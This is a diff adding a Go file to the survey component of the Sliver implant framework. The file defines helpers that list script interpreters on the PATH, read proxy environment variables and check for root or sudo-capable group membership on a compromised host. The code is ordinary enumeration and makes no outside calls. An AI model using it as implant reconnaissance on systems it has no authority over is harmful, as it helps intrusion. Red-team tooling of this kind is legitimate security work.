@@ -0,0 +1,77 @@
+//go:build linux || darwin
+
+package survey
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"os"
+	"os/exec"
+	"os/user"
+	"strings"
+)
+
+// runtimes - Interpreters and runtimes on the PATH, their versions would
+// require executing them
+func runtimes() []string {
+	found := []string{}
+	for _, runtime := range []string{"python3", "python", "perl", "ruby", "node", "java", "php", "pwsh", "dotnet", "gcc"} {
+		if _, err := exec.LookPath(runtime); err == nil {
+			found = append(found, runtime)
+		}
+	}
+	return found
+}
+
+// proxySettings - The proxy environment variables of the implant's process
+func proxySettings() string {
+	proxies := []string{}
+	for _, name := range []string{"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"} {
+		if value := os.Getenv(name); value != "" {
+			proxies = append(proxies, name+"="+value)
+		}
+	}
+	return strings.Join(proxies, ", ")
+}
+
+// localAdmin - root, or a member of a group that's usually allowed to sudo
+func localAdmin() bool {
+	currentUser, err := user.Current()
+	if err != nil {
+		return false
+	}
+	if currentUser.Uid == "0" {
+		return true
+	}
+	groupIDs, err := currentUser.GroupIds()
+	if err != nil {
+		return false
+	}
+	for _, groupID := range groupIDs {
+		group, err := user.LookupGroupId(groupID)
+		if err != nil {
+			continue
+		}
+		switch group.Name {
+		case "sudo", "wheel", "admin":
+			return true
+		}
+	}
+	return false
+}